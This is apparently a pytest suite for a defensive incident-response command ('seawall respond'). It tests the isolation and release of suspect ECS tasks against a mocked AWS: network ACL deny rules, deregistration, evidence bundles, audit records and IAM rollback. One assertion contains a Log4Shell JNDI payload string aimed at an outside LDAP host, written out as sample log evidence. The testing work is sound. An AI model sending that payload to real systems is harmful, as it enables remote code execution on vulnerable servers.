"""`seawall respond` on ECS/EC2/ELBv2 against moto in server mode (real HTTP on 127.0.0.1).

The environment (devtools/samples/respond/ecs_env.py) is built with real API calls; three gaps of
moto 5.2.6 in server mode are filled in the server process (awsvpc RunTask, ListTasks by container
instance, task protection), documented there and in docs/respond.md."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from devtools.samples.respond import ecs_env
from tests.conftest import run_cli

pytestmark = pytest.mark.slow


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def moto() -> Iterator[dict[str, Any]]:
    from moto.server import ThreadedMotoServer

    ecs_env.install()
    port = _free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    url = f"http://127.0.0.1:{port}"
    try:
        yield {"url": url, **ecs_env.build(url)}
    finally:
        server.stop()


def _env(moto: dict[str, Any], tmp: Path, **extra: str) -> dict[str, str]:
    return {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": "eu-west-1",
        "SEAWALL_AWS_ENDPOINT_URL": moto["url"],
        "AWS_CONFIG_FILE": "/nonexistent",
        "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent",
        "SEAWALL_RESPOND_AUDIT": str(tmp / "audit.jsonl"),
        **extra,
    }


def _deny_entries(moto: dict[str, Any], ip: str) -> set[tuple[str, bool, int]]:
    ec2 = ecs_env.client(moto["url"], "ec2")
    out = set()
    for acl in ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [moto["vpc"]]}])[
        "NetworkAcls"
    ]:
        for e in acl["Entries"]:
            if e.get("CidrBlock") == f"{ip}/32" and e["RuleAction"] == "deny" and e["Protocol"] == "-1":
                out.add((acl["NetworkAclId"], e["Egress"], e["RuleNumber"]))
    return out


def _targets(moto: dict[str, Any]) -> set[str]:
    elb = ecs_env.client(moto["url"], "elbv2")
    return {
        d["Target"]["Id"]
        for d in elb.describe_target_health(TargetGroupArn=moto["target_group"])["TargetHealthDescriptions"]
    }


def _protected(moto: dict[str, Any], task: str) -> bool:
    ecs = ecs_env.client(moto["url"], "ecs")
    return bool(
        ecs.get_task_protection(cluster="prod", tasks=[task])["protectedTasks"][0]["protectionEnabled"]
    )


def _acls(moto: dict[str, Any]) -> dict[str, str]:
    """subnet -> its ACL."""
    ec2 = ecs_env.client(moto["url"], "ec2")
    return {
        a["SubnetId"]: acl["NetworkAclId"]
        for acl in ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [moto["vpc"]]}])[
            "NetworkAcls"
        ]
        for a in acl["Associations"]
    }


def test_plan_is_a_dry_run_with_the_truth_about_acls(moto: dict[str, Any], tmp_path: Path) -> None:
    suspect = moto["tasks"][0]
    proc = run_cli(
        "respond", "plan", f"ecs:prod/task/{suspect['id']}", "-f", "json", env=_env(moto, tmp_path)
    )
    assert proc.returncode == 0, proc.stderr
    plan = json.loads(proc.stdout)
    assert [s["id"] for s in plan["steps"]] == [
        "evidence",
        "protect",
        "deregister",
        "nacl",
        "no-sg-change",
        "stop",
    ]
    assert plan["targets"][0]["ip"] == suspect["ip"] and plan["targets"][0]["service"] == "frontend"
    acls = _acls(moto)
    own = acls[suspect["subnet"]]
    entries = next(s for s in plan["steps"] if s["id"] == "nacl")["changes"]
    touched = {c["body"]["params"]["NetworkAclId"] for c in entries}
    # every ACL that serves another subnet (app-b shares the default ACL with app-a: it gets entries too)
    assert touched == {acls[moto["subnets"]["app_b"]], moto["public_acl"], moto["data_acl"]}
    assert own == acls[moto["subnets"]["app_b"]]
    numbers = {
        (c["body"]["params"]["NetworkAclId"], c["body"]["params"]["Egress"]): c["body"]["params"][
            "RuleNumber"
        ]
        for c in entries
    }
    assert numbers[(moto["public_acl"], False)] == 2  # rule 1 is taken by the 443 allow
    assert numbers[(moto["public_acl"], True)] == 1
    residual = {r["source"]: r for r in plan["residual"]}
    assert residual[f"network ACL {moto['public_acl']} rule 1"]["ports"] == ["443/TCP"]
    assert f"subnet {suspect['subnet']} (10.0.1.0/24)" in residual
    assert plan["isolated"] is False
    stop = next(s for s in plan["steps"] if s["id"] == "stop")
    assert stop["optional"] and not stop["enabled"]
    # nothing changed
    assert _deny_entries(moto, suspect["ip"]) == set()
    assert suspect["ip"] in _targets(moto) and not _protected(moto, suspect["arn"])


def test_isolate_apply_then_release_restores_everything(moto: dict[str, Any], tmp_path: Path) -> None:
    suspect, other = moto["tasks"]
    ref = f"ecs:prod/task/{suspect['id']}"
    env = _env(moto, tmp_path)
    proc = run_cli(
        "respond",
        "isolate",
        ref,
        "--apply",
        "--reason",
        "IR-42 log4shell",
        "--actor",
        "alice",
        "--evidence-dir",
        str(tmp_path / "evidence"),
        env=env,
    )
    assert proc.returncode == 0, proc.stderr
    assert "isolated ecs:prod/task/" in proc.stderr
    # the same APIs show the result
    assert _protected(moto, suspect["arn"])
    assert _targets(moto) == {other["ip"]}
    entries = _deny_entries(moto, suspect["ip"])
    assert (
        len(entries) == 6
        and (moto["public_acl"], False, 2) in entries
        and (moto["data_acl"], True, 1) in entries
    )
    assert _deny_entries(moto, other["ip"]) == set()
    ecs = ecs_env.client(moto["url"], "ecs")
    statuses = {
        t["taskArn"]: t["lastStatus"]
        for t in ecs.describe_tasks(cluster="prod", tasks=[suspect["arn"], other["arn"]])["tasks"]
    }
    assert set(statuses.values()) == {"RUNNING"}  # the suspect keeps running for forensics
    # evidence
    bundle = next((tmp_path / "evidence").iterdir())
    manifest = json.loads((bundle / "manifest.json").read_text())
    paths = {f["path"] for f in manifest["files"]}
    assert {
        f"{suspect['id']}/describe-tasks.json",
        f"{suspect['id']}/task-definition.json",
        f"{suspect['id']}/logs/web.log",
    } <= paths
    assert "${jndi:ldap://198.51.100.23:1389/a}" in (bundle / suspect["id"] / "logs" / "web.log").read_text()
    # audit trail
    record = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()][-1]
    assert (
        record["action"] == "isolate" and record["actor"] == "alice" and record["reason"] == "IR-42 log4shell"
    )
    assert record["applied"] and len(record["changes"]) == 8 and record["evidence"] == str(bundle)
    # isolating twice is refused
    again = run_cli("respond", "isolate", ref, "--apply", "--reason", "x", env=env)
    assert again.returncode == 2 and "already isolated" in again.stderr
    # release: dry run first, then for real
    dry = run_cli("respond", "release", ref, env=env)
    assert (
        dry.returncode == 0
        and "would DeleteNetworkAclEntry" in dry.stdout
        and len(_deny_entries(moto, suspect["ip"])) == 6
    )
    proc = run_cli("respond", "release", ref, "--apply", "--reason", "contained", "--actor", "alice", env=env)
    assert proc.returncode == 0, proc.stderr
    assert _deny_entries(moto, suspect["ip"]) == set()
    assert _targets(moto) == {suspect["ip"], other["ip"]}
    assert not _protected(moto, suspect["arn"])
    records = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
    assert records[-1]["action"] == "release" and records[-1]["releases"] == record["id"]
    proc = run_cli("respond", "release", ref, "--apply", env=env)
    assert proc.returncode == 2 and "no open isolation" in proc.stderr


def test_access_denied_names_the_action_and_changes_nothing(moto: dict[str, Any], tmp_path: Path) -> None:
    """An IAM user without ec2:CreateNetworkAclEntry: protection and deregistration are rolled back."""
    from moto import settings
    from moto.core import authorization

    iam = ecs_env.client(moto["url"], "iam")
    iam.create_user(UserName="responder")
    iam.put_user_policy(
        UserName="responder",
        PolicyName="respond",
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Resource": "*",
                        "Action": [
                            "ecs:Describe*",
                            "ecs:List*",
                            "ecs:UpdateTaskProtection",
                            "ec2:Describe*",
                            "elasticloadbalancing:Describe*",
                            "elasticloadbalancing:DeregisterTargets",
                            "elasticloadbalancing:RegisterTargets",
                            "logs:GetLogEvents",
                            "sts:GetCallerIdentity",
                        ],
                    }
                ],
            }
        ),
    )
    key = iam.create_access_key(UserName="responder")["AccessKey"]
    suspect = moto["tasks"][0]
    old = settings.INITIAL_NO_AUTH_ACTION_COUNT, authorization.ActionAuthenticatorMixin.request_count
    settings.INITIAL_NO_AUTH_ACTION_COUNT = 0  # enforce IAM from now on (moto's documented switch)
    try:
        proc = run_cli(
            "respond",
            "isolate",
            f"ecs:prod/task/{suspect['id']}",
            "--apply",
            "--reason",
            "IR-43",
            "--evidence-dir",
            str(tmp_path / "ev"),
            env=_env(
                moto,
                tmp_path,
                AWS_ACCESS_KEY_ID=key["AccessKeyId"],
                AWS_SECRET_ACCESS_KEY=key["SecretAccessKey"],
            ),
        )
    finally:
        settings.INITIAL_NO_AUTH_ACTION_COUNT, authorization.ActionAuthenticatorMixin.request_count = old
    assert proc.returncode == 2
    line = proc.stderr.strip().splitlines()[-1]
    assert line.startswith("seawall: error: access denied: ec2:CreateNetworkAclEntry in eu-west-1")
    assert "nothing left changed (2 change(s) rolled back)" in line and "Traceback" not in proc.stderr
    assert _deny_entries(moto, suspect["ip"]) == set()
    assert suspect["ip"] in _targets(moto) and not _protected(moto, suspect["arn"])
    record = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()][-1]
    assert record["applied"] is False and record["result"].startswith("failed: access denied")


def test_bridge_task_plans_host_isolation_only_when_asked(moto: dict[str, Any], tmp_path: Path) -> None:
    ref = f"ecs:prod/task/{moto['bridge_task']}"
    proc = run_cli("respond", "plan", ref, "-f", "json", env=_env(moto, tmp_path))
    assert proc.returncode == 0, proc.stderr
    plan = json.loads(proc.stdout)
    host = next(s for s in plan["steps"] if s["id"] == "isolate-host")
    assert host["optional"] and not host["enabled"]
    assert next(r["source"] for r in plan["residual"]).startswith(f"instance {moto['instance']}")
    env = _env(moto, tmp_path)
    proc = run_cli("respond", "isolate", ref, "--apply", "--reason", "miner", "--isolate-host", env=env)
    assert proc.returncode == 0, proc.stderr
    ec2 = ecs_env.client(moto["url"], "ec2")

    def groups() -> list[str]:
        inst = ec2.describe_instances(InstanceIds=[moto["instance"]])["Reservations"][0]["Instances"][0]
        return [g["GroupName"] for g in inst["SecurityGroups"]]

    quarantine = groups()
    assert len(quarantine) == 1 and quarantine[0].startswith("seawall-quarantine-")
    assert not quarantine[0].endswith("-open")
    deny = ec2.describe_security_groups(Filters=[{"Name": "group-name", "Values": quarantine}])[
        "SecurityGroups"
    ][0]
    assert deny["IpPermissions"] == [] and deny["IpPermissionsEgress"] == []
    proc = run_cli("respond", "release", ref, "--apply", "--reason", "done", env=env)
    assert proc.returncode == 0, proc.stderr
    assert groups() == ["frontend"]
    names = {
        g["GroupName"]
        for g in ec2.describe_security_groups(Filters=[{"Name": "vpc-id", "Values": [moto["vpc"]]}])[
            "SecurityGroups"
        ]
    }
    assert not any(n.startswith("seawall-quarantine") for n in names)


def test_service_and_scope_and_unknown(moto: dict[str, Any], tmp_path: Path) -> None:
    env = _env(moto, tmp_path)
    proc = run_cli("respond", "plan", "ecs:prod/service/frontend", env=env)
    assert proc.returncode == 2 and "takes it down" in proc.stderr
    proc = run_cli("respond", "plan", "ecs:prod/service/frontend", "--service", "-f", "json", env=env)
    assert proc.returncode == 0, proc.stderr
    plan = json.loads(proc.stdout)
    assert {t["id"] for t in plan["targets"]} == {t["id"] for t in moto["tasks"]}
    proc = run_cli("respond", "plan", "ecs:prod/task/0123456789abcdef0123456789abcdef", env=env)
    assert proc.returncode == 2 and "ECS task prod/0123456789abcdef0123456789abcdef not found" in proc.stderr
    proc = run_cli("respond", "plan", "ecs:nope/task/0123456789abcdef", env=env)
    assert proc.returncode == 2 and "cluster nope not found" in proc.stderr
    config = tmp_path / "config.yaml"
    config.write_text("respond:\n  scope:\n    accounts: ['111122223333']\n")
    proc = run_cli(
        "respond", "plan", f"ecs:prod/task/{moto['tasks'][0]['id']}", "--config", str(config), env=env
    )
    assert proc.returncode == 2 and "account 123456789012 is outside the configured scope" in proc.stderr
    config.write_text("respond:\n  scope:\n    tags: {respond: allowed}\n")
    proc = run_cli(
        "respond", "plan", f"ecs:prod/task/{moto['tasks'][0]['id']}", "--config", str(config), env=env
    )
    assert proc.returncode == 2 and "lacks the tag(s) respond=allowed" in proc.stderr


def test_offline_plan_from_cli_json_matches_the_live_plan(moto: dict[str, Any], tmp_path: Path) -> None:
    """The plan from `aws ... describe-*` JSON equals the live one (same steps, same changes)."""
    suspect = moto["tasks"][0]
    ecs, ec2 = ecs_env.client(moto["url"], "ecs"), ecs_env.client(moto["url"], "ec2")

    def dump(name: str, value: dict[str, Any]) -> Path:
        value.pop("ResponseMetadata", None)
        path = tmp_path / name
        path.write_text(json.dumps(value, default=str))
        return path

    tasks = ecs.describe_tasks(cluster="prod", tasks=[suspect["arn"]], include=["TAGS"])
    files = [
        dump("tasks.json", tasks),
        dump("td.json", ecs.describe_task_definition(taskDefinition=tasks["tasks"][0]["taskDefinitionArn"])),
        dump("services.json", ecs.describe_services(cluster="prod", services=["frontend"], include=["TAGS"])),
        dump("acls.json", ec2.describe_network_acls(Filters=[{"Name": "vpc-id", "Values": [moto["vpc"]]}])),
        dump("subnets.json", ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [moto["vpc"]]}])),
    ]
    args = ["respond", "plan", f"ecs:prod/task/{suspect['id']}", "-f", "json"]
    live = json.loads(run_cli(*args, env=_env(moto, tmp_path)).stdout)
    proc = run_cli(*args, *[x for f in files for x in ("--from", str(f))])
    assert proc.returncode == 0, proc.stderr
    offline = json.loads(proc.stdout)
    assert [s["changes"] for s in offline["steps"]] == [s["changes"] for s in live["steps"]]
    assert offline["source"] != "live"


def test_stop_only_when_asked_and_after_the_evidence(moto: dict[str, Any], tmp_path: Path) -> None:
    other = moto["tasks"][1]
    ref = f"ecs:prod/task/{other['id']}"
    env = _env(moto, tmp_path)
    proc = run_cli("respond", "isolate", ref, "--apply", "--stop", "--reason", "IR-44", "--evidence-dir",
                   str(tmp_path / "ev"), "-f", "json", env=env)
    assert proc.returncode == 0, proc.stderr
    plan = json.loads(proc.stdout)
    stop = next(s for s in plan["steps"] if s["id"] == "stop")
    assert stop["enabled"] and [s["id"] for s in plan["steps"]][-1] == "stop"
    ecs = ecs_env.client(moto["url"], "ecs")
    task = ecs.describe_tasks(cluster="prod", tasks=[other["arn"]])["tasks"][0]
    assert task["desiredStatus"] == "STOPPED" and task["stoppedReason"].startswith("seawall respond")
    record = [json.loads(x) for x in (tmp_path / "audit.jsonl").read_text().splitlines()][-1]
    calls = [c["body"]["operation"] for c in record["changes"]]
    assert calls[-1] == "StopTask" and record["evidence"]  # the evidence was saved before
    proc = run_cli("respond", "release", ref, "--apply", "--reason", "stopped", env=env)
    assert proc.returncode == 0 and _deny_entries(moto, other["ip"]) == set()
    assert "StopTask" not in proc.stdout  # a stopped task is not restarted by release
